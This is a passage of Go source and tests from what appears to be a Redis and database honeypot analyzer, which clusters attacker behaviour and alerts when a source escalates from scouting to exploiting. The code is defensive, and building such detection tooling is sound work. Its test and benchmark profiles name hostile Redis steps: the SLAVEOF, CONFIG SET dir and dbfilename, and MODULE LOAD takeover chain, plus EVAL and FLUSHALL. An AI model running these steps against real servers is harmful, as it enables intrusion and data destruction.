	var seqs []cluster.Sequence
	a := New(Options{})
	id := 0
	for gi, actions := range groups {
		for k := 0; k < perGroup; k++ {
			id++
			seqs = append(seqs, cluster.Sequence{ID: src(id).Addr().String(), Actions: actions})
			var batch []core.Event
			for j, act := range actions {
				batch = append(batch, ev(id, core.EventCommand, core.Redis, act,
					time.Duration(gi*1000+k*100+j)*time.Second))
			}
			if err := a.RecordBatch(batch); err != nil {
				t.Fatal(err)
			}
		}
	}

	off := cluster.Run(seqs, 0.25) // same squared-distance cut as the online radius 0.5
	onLabel := make([]int, len(seqs))
	for i := range seqs {
		c, ok := a.Cluster(src(i + 1).Addr())
		if !ok {
			t.Fatalf("source %d unassigned online", i+1)
		}
		onLabel[i] = c
	}
	for i := range seqs {
		for j := i + 1; j < len(seqs); j++ {
			offTogether := off.Labels[i] == off.Labels[j]
			onTogether := onLabel[i] == onLabel[j]
			if offTogether != onTogether {
				t.Errorf("sources %s/%s: offline together=%v online together=%v",
					seqs[i].ID, seqs[j].ID, offTogether, onTogether)
			}
		}
	}
	if st := a.Stats(); st.Clusters != off.Clusters {
		t.Fatalf("online clusters = %d, offline = %d", st.Clusters, off.Clusters)
	}
}

// TestRefitMergesFragments drives two near-identical behaviour streams
// that seed separate centroids (via an ordering artefact) and checks the
// periodic Ward re-fit consolidates them.
func TestRefitMergesFragments(t *testing.T) {
	a := New(Options{RefitEvery: 4, NewClusterRadius: 0.5})
	// Two sources, same behaviour, but the first batch of each arrives
	// with only a prefix of the vector — enough skew to seed two
	// centroids before both converge to the same TF profile.
	s1 := []string{"INFO", "KEYS", "DBSIZE", "CONFIG GET"}
	s2 := []string{"CONFIG GET", "DBSIZE", "KEYS", "INFO"}
	at := 0
	push := func(id int, acts []string) {
		var batch []core.Event
		for _, act := range acts {
			at++
			batch = append(batch, ev(id, core.EventCommand, core.Redis, act, time.Duration(at)*time.Second))
		}
		if err := a.RecordBatch(batch); err != nil {
			t.Fatal(err)
		}
	}
	push(1, s1[:1]) // vector {INFO:1} — seeds centroid A
	push(2, s2[:1]) // vector {CONFIG GET:1} — distance √2 from A, seeds B
	if st := a.Stats(); st.Clusters != 2 {
		t.Fatalf("pre-merge clusters = %d, want 2", st.Clusters)
	}
	// Both converge onto the full profile; refits fire every 4 batches.
	for i := 0; i < 8; i++ {
		push(1, s1)
		push(2, s2)
	}
	st := a.Stats()
	if st.Refits == 0 {
		t.Fatal("refit never ran")
	}
	if st.Clusters != 1 {
		t.Fatalf("post-refit clusters = %d, want 1 (merged=%d)", st.Clusters, st.Merged)
	}
	c1, _ := a.Cluster(src(1).Addr())
	c2, _ := a.Cluster(src(2).Addr())
	if c1 != c2 {
		t.Fatalf("sources still split across clusters %d/%d after refit", c1, c2)
	}
	if got := a.Clusters(); len(got) != 1 || got[0].Members != 2 {
		t.Fatalf("cluster info after merge = %+v", got)
	}
}

func TestClustersRanking(t *testing.T) {
	a := New(Options{})
	for i := 1; i <= 5; i++ { // five scouts
		a.Record(ev(i, core.EventCommand, core.Redis, "INFO", time.Duration(i)*time.Second))
	}
	for i := 6; i <= 7; i++ { // two exploiters
		a.Record(ev(i, core.EventCommand, core.Redis, "SLAVEOF", time.Duration(i)*time.Second))
	}
	cs := a.Clusters()
	if len(cs) != 2 {
		t.Fatalf("clusters = %d, want 2", len(cs))
	}
	if cs[0].Members != 5 || cs[1].Members != 2 {
		t.Fatalf("ranking wrong: %+v", cs)
	}
	if len(cs[0].TopActions) == 0 || cs[0].TopActions[0] != "INFO" {
		t.Fatalf("top actions of scout cluster = %v", cs[0].TopActions)
	}
	if cs[1].TopActions[0] != "SLAVEOF" {
		t.Fatalf("top actions of exploit cluster = %v", cs[1].TopActions)
	}
}

func TestAlertRingBound(t *testing.T) {
	a := New(Options{AlertRing: 4, NewClusterRadius: 0.1})
	// Every source gets its own action → its own cluster → one
	// new-cluster alert each; the ring retains only the newest 4.
	for i := 1; i <= 10; i++ {
		a.Record(ev(i, core.EventCommand, core.Redis, fmt.Sprintf("ACT-%d", i), time.Duration(i)*time.Second))
	}
	alerts := a.Alerts(0)
	if len(alerts) != 4 {
		t.Fatalf("retained alerts = %d, want 4", len(alerts))
	}
	// Newest first.
	for i, al := range alerts {
		if want := src(10 - i).Addr().String(); al.Src != want {
			t.Fatalf("alert %d src = %s, want %s", i, al.Src, want)
		}
	}
	if got := a.Alerts(2); len(got) != 2 || got[0].Src != src(10).Addr().String() {
		t.Fatalf("Alerts(2) = %+v", got)
	}
	if st := a.Stats(); st.Alerts != 10 {
		t.Fatalf("lifetime alerts = %d, want 10", st.Alerts)
	}
}

func TestMaxClustersCap(t *testing.T) {
	a := New(Options{MaxClusters: 3, NewClusterRadius: 0.1})
	for i := 1; i <= 10; i++ {
		a.Record(ev(i, core.EventCommand, core.Redis, fmt.Sprintf("ACT-%d", i), time.Duration(i)*time.Second))
	}
	st := a.Stats()
	if st.Clusters != 3 {
		t.Fatalf("clusters = %d, want cap 3", st.Clusters)
	}
	if st.Capped == 0 {
		t.Fatal("capped counter never incremented")
	}
	// Every source still has a home.
	for i := 1; i <= 10; i++ {
		if _, ok := a.Cluster(src(i).Addr()); !ok {
			t.Fatalf("source %d unassigned at cluster cap", i)
		}
	}
}

func TestVocabOverflow(t *testing.T) {
	a := New(Options{MaxVocab: 8})
	var batch []core.Event
	for i := 0; i < 32; i++ {
		batch = append(batch, ev(1, core.EventCommand, core.Redis, fmt.Sprintf("ACT-%d", i), time.Duration(i)*time.Second))
	}
	if err := a.RecordBatch(batch); err != nil {
		t.Fatal(err)
	}
	if st := a.Stats(); st.Vocab != 8 {
		t.Fatalf("vocab = %d, want bounded at 8", st.Vocab)
	}
}

func TestAlertKindJSONRoundTrip(t *testing.T) {
	for _, k := range []AlertKind{EscalationAlert, NewClusterAlert, ClusterShiftAlert} {
		b, err := json.Marshal(k)
		if err != nil {
			t.Fatal(err)
		}
		var got AlertKind
		if err := json.Unmarshal(b, &got); err != nil {
			t.Fatal(err)
		}
		if got != k {
			t.Fatalf("round trip %v -> %s -> %v", k, b, got)
		}
	}
	var bad AlertKind
	if err := json.Unmarshal([]byte(`"nope"`), &bad); err == nil {
		t.Fatal("unknown kind decoded without error")
	}
}

func TestAlertJSONRoundTrip(t *testing.T) {
	in := Alert{Kind: EscalationAlert, Time: t0, Src: "203.0.113.1",
		DBMS: core.Redis, From: "scouting", To: "exploiting", Action: "EVAL"}
	b, err := json.Marshal(in)
	if err != nil {
		t.Fatal(err)
	}
	var out Alert
	if err := json.Unmarshal(b, &out); err != nil {
		t.Fatal(err)
	}
	if out != in {
		t.Fatalf("round trip: got %+v want %+v", out, in)
	}
}

func TestConcurrentIngest(t *testing.T) {
	a := New(Options{MaxSources: 64})
	done := make(chan struct{})
	for w := 0; w < 4; w++ {
		go func(w int) {
			defer func() { done <- struct{}{} }()
			for i := 0; i < 200; i++ {
				id := (w*200+i)%100 + 1
				a.Record(ev(id, core.EventCommand, core.Redis, "INFO", time.Duration(i)*time.Second))
				if i%10 == 0 {
					a.Stats()
					a.Alerts(4)
					a.Clusters()
				}
			}
		}(w)
	}
	for w := 0; w < 4; w++ {
		<-done
	}
	a.Flush()
	if st := a.Stats(); st.Events != 800 {
		t.Fatalf("events = %d, want 800", st.Events)
	}
}
