package stream

import (
	"encoding/json"
	"fmt"
	"time"
)

// AlertKind enumerates the transition alerts the analyzer emits.
type AlertKind int

// Alert kinds. EscalationAlert fires when a source's behaviour rises to
// exploiting (the scout→exploit transition the paper's Section 4.3
// taxonomy makes interesting — a source that probed first and struck
// later); NewClusterAlert when a behaviour vector lands outside every
// known centroid's radius and seeds a new cluster; ClusterShiftAlert
// when an already-assigned source's vector migrates to a different
// cluster.
const (
	EscalationAlert AlertKind = iota
	NewClusterAlert
	ClusterShiftAlert
)

// String returns the wire name of the kind.
func (k AlertKind) String() string {
	switch k {
	case EscalationAlert:
		return "escalation"
	case NewClusterAlert:
		return "new-cluster"
	case ClusterShiftAlert:
		return "cluster-shift"
	}
	return fmt.Sprintf("kind(%d)", int(k))
}

// MarshalJSON encodes the kind as its string name.
func (k AlertKind) MarshalJSON() ([]byte, error) {
	return json.Marshal(k.String())
}

// UnmarshalJSON decodes the string name back into the kind, so
// obs.Client round-trips alerts over the admin wire.
func (k *AlertKind) UnmarshalJSON(b []byte) error {
	var s string
	if err := json.Unmarshal(b, &s); err != nil {
		return err
	}
	switch s {
	case "escalation":
		*k = EscalationAlert
	case "new-cluster":
		*k = NewClusterAlert
	case "cluster-shift":
		*k = ClusterShiftAlert
	default:
		return fmt.Errorf("stream: unknown alert kind %q", s)
	}
	return nil
}

// Alert is one transition observed on the live ingest path. Time is the
// triggering event's timestamp (virtual time in simulations), so alert
// ordering is a property of the capture, not of scrape timing.
type Alert struct {
	Kind AlertKind `json:"kind"`
	Time time.Time `json:"time"`
	Src  string    `json:"src"`
	// DBMS is the honeypot family of the triggering event.
	DBMS string `json:"dbms,omitempty"`
	// From/To carry the transition: behaviour names for escalations
	// ("scouting"→"exploiting"), cluster ids rendered as strings for
	// shifts.
	From string `json:"from,omitempty"`
	To   string `json:"to,omitempty"`
	// Cluster is the cluster involved (the new cluster's id for
	// NewClusterAlert, the destination for ClusterShiftAlert).
	Cluster int `json:"cluster,omitempty"`
	// Action is the normalised action that tripped an escalation.
	Action string `json:"action,omitempty"`
}

// String renders a log-friendly line.
func (a Alert) String() string {
	switch a.Kind {
	case EscalationAlert:
		return fmt.Sprintf("escalation: %s %s→%s on %s (%s)", a.Src, a.From, a.To, a.DBMS, a.Action)
	case NewClusterAlert:
		return fmt.Sprintf("new cluster %d seeded by %s", a.Cluster, a.Src)
	case ClusterShiftAlert:
		return fmt.Sprintf("cluster shift: %s %s→%s", a.Src, a.From, a.To)
	}
	return fmt.Sprintf("alert(%d) %s", int(a.Kind), a.Src)
}

// alertRing is a fixed-size circular buffer of alerts. It is not
// self-locking: the analyzer mutates it under its own mutex.
type alertRing struct {
	buf    []Alert
	next   int
	filled int
	total  uint64
	byKind [3]uint64
}

func newAlertRing(n int) *alertRing {
	return &alertRing{buf: make([]Alert, n)}
}

func (r *alertRing) push(a Alert) {
	r.buf[r.next] = a
	r.next = (r.next + 1) % len(r.buf)
	if r.filled < len(r.buf) {
		r.filled++
	}
	r.total++
	if int(a.Kind) >= 0 && int(a.Kind) < len(r.byKind) {
		r.byKind[a.Kind]++
	}
}

// recent returns up to limit alerts, newest first (limit <= 0 means all
// retained).
func (r *alertRing) recent(limit int) []Alert {
	n := r.filled
	if limit > 0 && limit < n {
		n = limit
	}
	out := make([]Alert, 0, n)
	for i := 0; i < n; i++ {
		idx := (r.next - 1 - i + 2*len(r.buf)) % len(r.buf)
		out = append(out, r.buf[idx])
	}
	return out
}
