package stream

import (
	"sort"

	"decoydb/internal/cluster"
)

// The online half of the paper's adversary grouping (Section 6.1): the
// offline pipeline vectorises full action sequences and Ward-clusters
// them post-hoc; here each source's term-frequency vector is assigned to
// the nearest centroid as its events arrive, new centroids are seeded
// when a vector lands outside every known cluster's radius, and the
// centroid set itself is periodically consolidated by a mini Ward re-fit
// (cluster.Agglomerate over the centroids, cut at the spawn radius) so
// incremental drift cannot fragment one behaviour into many clusters.
// Distances are cluster.SqDist — the same metric the offline
// agglomeration uses — over the same TF definition (count/len), which is
// what makes online and offline assignments agree on stable corpora.

// centroid is one live cluster: a sparse mean vector over the shared
// vocabulary plus membership accounting.
type centroid struct {
	id int
	// terms holds the centroid coordinates as scale*weight: every blend
	// toward a new member multiplies scale by (1-η) instead of rescaling
	// the whole map, so an update costs O(member's distinct actions).
	terms map[int]float64
	scale float64
	norm2 float64 // squared L2 norm of the centroid, maintained incrementally
	// members counts live sources currently assigned; assigns counts
	// lifetime assignment events and drives the blend learning rate.
	members int
	assigns uint64
}

// at returns the centroid's coordinate at vocabulary index i.
func (c *centroid) at(i int) float64 { return c.terms[i] * c.scale }

// minEta floors the blend learning rate so a long-lived centroid still
// tracks behavioural drift instead of freezing at its historical mean.
const minEta = 1.0 / 256

// blend moves the centroid toward the sparse TF vector with learning
// rate eta, given dot = centroid·vector (already computed by the
// caller's distance pass).
func (c *centroid) blend(vec []term, vecNorm2, dot, eta float64) {
	c.scale *= 1 - eta
	if c.scale < 1e-9 {
		// Renormalise before the scale underflows.
		for i, t := range c.terms {
			c.terms[i] = t * c.scale
		}
		c.scale = 1
	}
	for _, t := range vec {
		c.terms[t.i] += eta * t.w / c.scale
	}
	c.norm2 = (1-eta)*(1-eta)*c.norm2 + 2*(1-eta)*eta*dot + eta*eta*vecNorm2
}

// assigner owns the vocabulary and the centroid set. It is not
// self-locking: the analyzer drives it under its own mutex.
type assigner struct {
	vocab map[string]int
	names []string // index → action name, for ClusterInfo rendering
	opts  Options

	centroids []*centroid
	nextID    int

	refits  uint64
	merged  uint64
	dropped uint64
	capped  uint64
}

func newAssigner(opts Options) *assigner {
	return &assigner{vocab: make(map[string]int), opts: opts}
}

// index resolves an action name to its vocabulary index, growing the
// vocabulary up to MaxVocab; names beyond the bound share one overflow
// dimension so vector length — and memory — stays bounded however
// creative the traffic gets.
func (a *assigner) index(name string) int {
	if i, ok := a.vocab[name]; ok {
		return i
	}
	if len(a.names) >= a.opts.MaxVocab {
		return a.opts.MaxVocab // shared overflow dimension
	}
	i := len(a.names)
	a.vocab[name] = i
	a.names = append(a.names, name)
	return i
}

// term is one nonzero TF coordinate of the vector being assigned. The
// analyzer snapshots a source's counts map into a reused []term once
// per assignment, so the per-centroid dot products below iterate a
// slice instead of re-walking the map k times.
type term struct {
	i int
	w float64
}

// assign places a source's sparse TF vector — its nonzero terms plus a
// precomputed squared norm, so the hot path never materialises a dense
// vector — with the nearest centroid, seeding a new one when everything
// is farther than the spawn radius. The distance is the
// ||s||² + ||c||² − 2·s·c decomposition of cluster.SqDist with both
// norms precomputed, so each candidate costs only a dot product over
// the source's distinct actions. It returns the cluster id and whether
// a new cluster was created.
func (a *assigner) assign(vec []term, norm2 float64) (id int, isNew bool) {
	best, bestDot, bestD := -1, 0.0, 0.0
	for i, c := range a.centroids {
		var dot float64
		for _, t := range vec {
			if w, ok := c.terms[t.i]; ok {
				dot += w * t.w
			}
		}
		dot *= c.scale
		d := norm2 + c.norm2 - 2*dot
		if best == -1 || d < bestD {
			best, bestDot, bestD = i, dot, d
		}
	}
	radius2 := a.opts.NewClusterRadius * a.opts.NewClusterRadius
	if best == -1 || bestD > radius2 {
		if len(a.centroids) < a.opts.MaxClusters {
			terms := make(map[int]float64, len(vec))
			for _, t := range vec {
				terms[t.i] = t.w
			}
			c := &centroid{id: a.nextID, terms: terms, scale: 1, norm2: norm2, assigns: 1}
			a.nextID++
			a.centroids = append(a.centroids, c)
			return c.id, true
		}
		// At the cluster cap an outlier still needs a home: the nearest
		// centroid takes it (without blending, so the outlier cannot
		// drag the centroid off its behaviour group).
		a.capped++
		a.centroids[best].assigns++
		return a.centroids[best].id, false
	}
	c := a.centroids[best]
	c.assigns++
	eta := 1 / float64(c.assigns)
	if eta < minEta {
		eta = minEta
	}
	c.blend(vec, norm2, bestDot, eta)
	return c.id, false
}

// byID returns the live centroid with the given cluster id.
func (a *assigner) byID(id int) *centroid {
	for _, c := range a.centroids {
		if c.id == id {
			return c
		}
	}
	return nil
}

// refit consolidates the centroid set with a mini Ward agglomeration:
// centroids whose Ward merge height stays at or below the squared spawn
// radius collapse into one, weighted by live membership. It returns a
// remap of retired cluster ids to their survivors (empty when nothing
// merged); the analyzer rewrites per-source assignments from it.
func (a *assigner) refit() map[int]int {
	a.refits++
	// Garbage-collect empty centroids first: members is maintained on
	// every assignment, migration and eviction, so members == 0 means no
	// live source references the cluster — it is a stale seed left
	// behind by a partial early vector, not a behaviour group.
	live := a.centroids[:0]
	for _, c := range a.centroids {
		if c.members > 0 {
			live = append(live, c)
		} else {
			a.dropped++
		}
	}
	a.centroids = live
	if len(a.centroids) < 2 {
		return nil
	}
	vecs := make([]cluster.Vector, len(a.centroids))
	for i, c := range a.centroids {
		v := make(cluster.Vector, len(a.names)+1)
		for j, t := range c.terms {
			if j < len(v) {
				v[j] = t * c.scale
			}
		}
		vecs[i] = v
	}
	dg := cluster.Ward(vecs)
	labels := dg.Cut(a.opts.NewClusterRadius * a.opts.NewClusterRadius)

	groups := make(map[int][]*centroid)
	for i, l := range labels {
		groups[l] = append(groups[l], a.centroids[i])
	}
	if len(groups) == len(a.centroids) {
		return nil
	}
	remap := make(map[int]int)
	var kept []*centroid
	// Deterministic order: groups by their first centroid's id.
	order := make([]int, 0, len(groups))
	for l := range groups {
		order = append(order, l)
	}
	sort.Slice(order, func(i, j int) bool { return groups[order[i]][0].id < groups[order[j]][0].id })
	for _, l := range order {
		g := groups[l]
		if len(g) == 1 {
			kept = append(kept, g[0])
			continue
		}
		// The heaviest member keeps its id, so long-lived clusters stay
		// addressable across refits; ties break to the oldest.
		sort.Slice(g, func(i, j int) bool {
			if g[i].members != g[j].members {
				return g[i].members > g[j].members
			}
			return g[i].id < g[j].id
		})
		merged := a.merge(g)
		kept = append(kept, merged)
		for _, c := range g[1:] {
			remap[c.id] = merged.id
			a.merged++
		}
	}
	a.centroids = kept
	return remap
}

// merge folds a group of centroids into the first one, weighted by live
// membership (assignment counts stand in when a group is all-evicted).
func (a *assigner) merge(g []*centroid) *centroid {
	var totalW float64
	weight := func(c *centroid) float64 {
		if c.members > 0 {
			return float64(c.members)
		}
		return 1
	}
	for _, c := range g {
		totalW += weight(c)
	}
	terms := make(map[int]float64)
	members := 0
	var assigns uint64
	for _, c := range g {
		w := weight(c) / totalW
		for i, t := range c.terms {
			terms[i] += w * t * c.scale
		}
		members += c.members
		assigns += c.assigns
	}
	var norm2 float64
	for _, t := range terms {
		norm2 += t * t
	}
	out := g[0]
	out.terms, out.scale, out.norm2 = terms, 1, norm2
	out.members, out.assigns = members, assigns
	return out
}

// topActions returns the centroid's k highest-weight action names.
func (a *assigner) topActions(c *centroid, k int) []string {
	type tw struct {
		i int
		w float64
	}
	all := make([]tw, 0, len(c.terms))
	for i, t := range c.terms {
		if i < len(a.names) && t != 0 {
			all = append(all, tw{i, t * c.scale})
		}
	}
	sort.Slice(all, func(x, y int) bool {
		if all[x].w != all[y].w {
			return all[x].w > all[y].w
		}
		return all[x].i < all[y].i
	})
	if len(all) > k {
		all = all[:k]
	}
	out := make([]string, len(all))
	for i, t := range all {
		out[i] = a.names[t.i]
	}
	return out
}
