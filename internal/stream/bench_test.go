package stream

import (
	"fmt"
	"net/netip"
	"testing"
	"time"

	"decoydb/internal/bus"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
)

// BenchmarkStreamIngest measures the acceptance bound for putting the
// online analyzer on the ingest path: bus→store throughput with the
// stream sink detached versus attached as an extra bus consumer. The
// workload is command-heavy (every event grows a vector and triggers a
// per-batch assignment pass) over 512 sources cycling through 8
// behaviour profiles — worst-case-ish for the assigner, since every
// batch touches many sources. CI asserts via benchjson -maxratio that
// attached throughput stays within 2× of detached (i.e. ≥50%).
func BenchmarkStreamIngest(b *testing.B) {
	for _, attached := range []bool{false, true} {
		name := "sink=off"
		if attached {
			name = "sink=on"
		}
		b.Run(name, func(b *testing.B) {
			benchStreamIngest(b, attached)
		})
	}
}

var benchStart = time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC)

func benchStreamIngest(b *testing.B, attached bool) {
	const sources = 512
	profiles := [][]string{
		{"INFO", "KEYS", "DBSIZE"},
		{"SLAVEOF", "CONFIG SET dir", "CONFIG SET dbfilename", "MODULE LOAD"},
		{"SET", "SET", "GET"},
		{"EVAL", "FLUSHALL"},
		{"CONFIG GET", "CLIENT LIST", "SCAN"},
		{"AUTH", "PING", "INFO"},
		{"HGETALL", "EXISTS", "TYPE"},
		{"FLUSHDB", "SET", "SET"},
	}
	hp := core.Info{DBMS: core.Redis, Level: core.Low, Group: core.GroupMulti, Config: core.ConfigDefault}
	events := make([]core.Event, sources*4)
	for i := range events {
		src := i % sources
		prof := profiles[src%len(profiles)]
		events[i] = core.Event{
			Time:     benchStart.Add(time.Duration(i) * time.Second),
			Src:      netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 51, byte(src >> 8), byte(src)}), 40000),
			Honeypot: hp,
			Kind:     core.EventCommand,
			Command:  prof[(i/sources)%len(prof)],
			Raw:      fmt.Sprintf("raw-%d", i%32),
		}
	}

	store := evstore.New(benchStart, 20, nil)
	sinks := []core.Sink{store}
	var an *Analyzer
	if attached {
		an = New(Options{})
		sinks = append(sinks, an)
	}
	eb := bus.New(bus.Options{Policy: bus.Block}, sinks...)

	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		eb.Record(events[i%len(events)])
	}
	eb.Close()
	b.StopTimer()
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
	if attached && an.Stats().Events != uint64(b.N) {
		b.Fatalf("analyzer saw %d events, bus delivered %d", an.Stats().Events, b.N)
	}
}
