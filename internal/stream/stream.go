// Package stream performs the paper's post-hoc analyses — behavioural
// classification (Section 4.3) and adversary clustering (Section 6.1) —
// online, on the ingest path. An Analyzer is a core.BatchSink that keeps
// a bounded LRU of per-source state: a term-frequency vector of the
// source's normalised actions and its current classify.Behavior. Every
// delivered batch re-classifies each touched source incrementally (a
// fold of classify.Step — no snapshot, no store re-scan) and re-assigns
// its vector to a behaviour cluster by nearest-centroid matching,
// with the centroid set periodically consolidated by a mini Ward re-fit
// (see centroids.go). Transitions — a scout escalating to exploitation,
// a vector seeding a new cluster, a source migrating between clusters —
// emit typed alerts into a bounded ring that the admin plane serves at
// /alerts and /clusters.
//
// The analyzer sits behind the event bus, so honeypot sessions never
// block on it; its cost is bounded by the throughput gate in CI
// (BenchmarkStreamIngest: ingest with the sink attached must stay
// within 2× of detached ingest).
package stream

import (
	"net/netip"
	"sync"
	"time"

	"decoydb/internal/classify"
	"decoydb/internal/core"
)

// Options configures an Analyzer. The zero value is usable: every field
// has a sensible default.
type Options struct {
	// MaxSources bounds the per-source LRU; the least recently active
	// source is evicted when a new one would exceed it. Default 65536.
	MaxSources int
	// AlertRing bounds the retained alert history. Default 1024.
	AlertRing int
	// MaxActionsPerSource caps how many action tokens count into one
	// source's vector, mirroring evstore's per-activity action bound so
	// a chatty bot cannot grow state without limit. Default 512.
	MaxActionsPerSource int
	// MaxVocab bounds the action vocabulary; later distinct actions
	// share one overflow dimension. Default 4096.
	MaxVocab int
	// NewClusterRadius is the Euclidean distance beyond which a vector
	// seeds a new cluster instead of joining its nearest centroid, and
	// also the Ward cut height of the periodic re-fit. Default 0.5.
	NewClusterRadius float64
	// RefitEvery is the batch cadence of the mini Ward re-fit over the
	// centroid set. Default 256.
	RefitEvery int
	// MaxClusters bounds the centroid set. Default 64.
	MaxClusters int
}

func (o Options) withDefaults() Options {
	if o.MaxSources <= 0 {
		o.MaxSources = 65536
	}
	if o.AlertRing <= 0 {
		o.AlertRing = 1024
	}
	if o.MaxActionsPerSource <= 0 {
		o.MaxActionsPerSource = 512
	}
	if o.MaxVocab <= 0 {
		o.MaxVocab = 4096
	}
	if o.NewClusterRadius <= 0 {
		o.NewClusterRadius = 0.5
	}
	if o.RefitEvery <= 0 {
		o.RefitEvery = 256
	}
	if o.MaxClusters <= 0 {
		o.MaxClusters = 64
	}
	return o
}

// source is the per-source online state. Sources are keyed by address
// (not address:port — one attacker, one vector, as in the offline
// pipeline) and threaded through an intrusive LRU list.
type source struct {
	addr     netip.Addr
	behavior classify.Behavior
	// counts is the sparse action term-count vector over the shared
	// vocabulary; total is the sequence length (the TF denominator);
	// sumSq is Σ count², kept incrementally so the vector's squared TF
	// norm (sumSq/total²) costs nothing at assignment time.
	counts map[int]int
	total  int
	sumSq  int
	// dbms of the most recent event, carried into alerts.
	dbms    string
	cluster int // assigned cluster id, -1 before the first assignment
	dirty   bool
	touched bool

	prev, next *source
}

// Analyzer is the streaming sink. It implements core.Sink,
// core.BatchSink and core.Flusher.
type Analyzer struct {
	opts Options

	mu      sync.Mutex
	sources map[netip.Addr]*source
	// LRU list: head.next is most recent, tail.prev least recent.
	head, tail *source
	batch      []*source // sources touched by the in-flight batch
	scratch    []term    // reused per-assignment term snapshot
	asn        *assigner
	alerts     *alertRing
	sinceRefit int
	lastTime   time.Time // most recently ingested event's timestamp

	// Counters for Stats; guarded by mu.
	events   uint64
	batches  uint64
	evicted  uint64
	assignsN uint64
}

// Compile-time checks: the analyzer satisfies the consumer contract.
var (
	_ core.Sink      = (*Analyzer)(nil)
	_ core.BatchSink = (*Analyzer)(nil)
	_ core.Flusher   = (*Analyzer)(nil)
)

// New returns an Analyzer with the given options.
func New(opts Options) *Analyzer {
	opts = opts.withDefaults()
	a := &Analyzer{
		opts:    opts,
		sources: make(map[netip.Addr]*source),
		head:    &source{},
		tail:    &source{},
		asn:     newAssigner(opts),
		alerts:  newAlertRing(opts.AlertRing),
	}
	a.head.next = a.tail
	a.tail.prev = a.head
	a.sinceRefit = opts.RefitEvery
	return a
}

// Record implements core.Sink: a single-event batch.
func (a *Analyzer) Record(e core.Event) {
	a.mu.Lock()
	a.ingest(e)
	a.settle()
	a.mu.Unlock()
}

// RecordBatch implements core.BatchSink: fold the whole batch under one
// lock acquisition, then run one assignment pass over the touched
// sources.
func (a *Analyzer) RecordBatch(events []core.Event) error {
	a.mu.Lock()
	for _, e := range events {
		a.ingest(e)
	}
	a.settle()
	a.mu.Unlock()
	return nil
}

// Flush implements core.Flusher. The analyzer holds no asynchronous
// buffers — state is current the moment RecordBatch returns — so Flush
// only takes the lock to publish a happens-before edge to the caller.
func (a *Analyzer) Flush() {
	a.mu.Lock()
	a.mu.Unlock() //nolint:staticcheck // intentional: memory barrier only
}

// ingest folds one event into its source's state. Caller holds mu.
func (a *Analyzer) ingest(e core.Event) {
	a.events++
	a.lastTime = e.Time
	addr := e.Src.Addr()
	s := a.sources[addr]
	if s == nil {
		s = &source{addr: addr, cluster: -1}
		a.sources[addr] = s
		a.insertFront(s)
		if len(a.sources) > a.opts.MaxSources {
			a.evict()
		}
	} else {
		a.moveFront(s)
	}
	if !s.touched {
		s.touched = true
		a.batch = append(a.batch, s)
	}
	s.dbms = e.Honeypot.DBMS

	switch e.Kind {
	case core.EventLogin:
		if s.behavior < classify.Scouting {
			s.behavior = classify.Scouting
		}
	case core.EventCommand:
		step := classify.Step(e.Honeypot.DBMS, e.Command, e.Raw)
		if step > s.behavior {
			from := s.behavior
			s.behavior = step
			if step == classify.Exploiting {
				a.alerts.push(Alert{
					Kind:   EscalationAlert,
					Time:   e.Time,
					Src:    addr.String(),
					DBMS:   e.Honeypot.DBMS,
					From:   from.String(),
					To:     step.String(),
					Action: e.Command,
				})
			}
		}
		if s.total < a.opts.MaxActionsPerSource {
			if s.counts == nil {
				s.counts = make(map[int]int, 4)
			}
			i := a.asn.index(e.Command)
			s.sumSq += 2*s.counts[i] + 1 // (c+1)² − c²
			s.counts[i]++
			s.total++
			s.dirty = true
		}
	}
}

// settle runs the end-of-batch assignment pass: every touched source
// whose vector changed is (re-)assigned to a centroid, and the refit
// countdown advances. Caller holds mu.
func (a *Analyzer) settle() {
	if len(a.batch) == 0 {
		return
	}
	a.batches++
	for _, s := range a.batch {
		s.touched = false
		if !s.dirty || s.total == 0 {
			continue
		}
		s.dirty = false
		a.assign(s)
	}
	a.batch = a.batch[:0]

	a.sinceRefit--
	if a.sinceRefit <= 0 {
		a.sinceRefit = a.opts.RefitEvery
		a.applyRemap(a.asn.refit())
	}
}

// assign places one source with a centroid and emits cluster alerts for
// the resulting transition, if any. Caller holds mu.
func (a *Analyzer) assign(s *source) {
	inv := 1 / float64(s.total)
	a.scratch = a.scratch[:0]
	for i, n := range s.counts {
		a.scratch = append(a.scratch, term{i, float64(n) * inv})
	}
	id, isNew := a.asn.assign(a.scratch, float64(s.sumSq)*inv*inv)
	a.assignsN++
	if id == s.cluster {
		return
	}
	old := s.cluster
	if old >= 0 {
		if c := a.asn.byID(old); c != nil && c.members > 0 {
			c.members--
		}
	}
	s.cluster = id
	if c := a.asn.byID(id); c != nil {
		c.members++
	}
	lastTime := a.lastTime
	if isNew {
		a.alerts.push(Alert{
			Kind: NewClusterAlert, Time: lastTime, Src: s.addr.String(),
			DBMS: s.dbms, Cluster: id,
		})
	}
	if old >= 0 {
		a.alerts.push(Alert{
			Kind: ClusterShiftAlert, Time: lastTime, Src: s.addr.String(),
			DBMS: s.dbms, From: itoa(old), To: itoa(id), Cluster: id,
		})
	}
}

// applyRemap rewrites per-source cluster ids after a refit merged
// centroids. Merges are consolidation of one behaviour group, not a
// source changing behaviour, so no shift alerts fire. Caller holds mu.
func (a *Analyzer) applyRemap(remap map[int]int) {
	if len(remap) == 0 {
		return
	}
	for _, s := range a.sources {
		if to, ok := remap[s.cluster]; ok {
			s.cluster = to
		}
	}
}

// insertFront links s in as most-recent. Caller holds mu.
func (a *Analyzer) insertFront(s *source) {
	s.prev = a.head
	s.next = a.head.next
	a.head.next.prev = s
	a.head.next = s
}

// moveFront promotes s to most-recent. Caller holds mu.
func (a *Analyzer) moveFront(s *source) {
	s.prev.next = s.next
	s.next.prev = s.prev
	a.insertFront(s)
}

// evict drops the least recently active source. Caller holds mu.
func (a *Analyzer) evict() {
	s := a.tail.prev
	if s == a.head {
		return
	}
	s.prev.next = a.tail
	a.tail.prev = s.prev
	delete(a.sources, s.addr)
	if s.cluster >= 0 {
		if c := a.asn.byID(s.cluster); c != nil && c.members > 0 {
			c.members--
		}
	}
	a.evicted++
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	neg := n < 0
	if neg {
		n = -n
	}
	var buf [20]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	if neg {
		i--
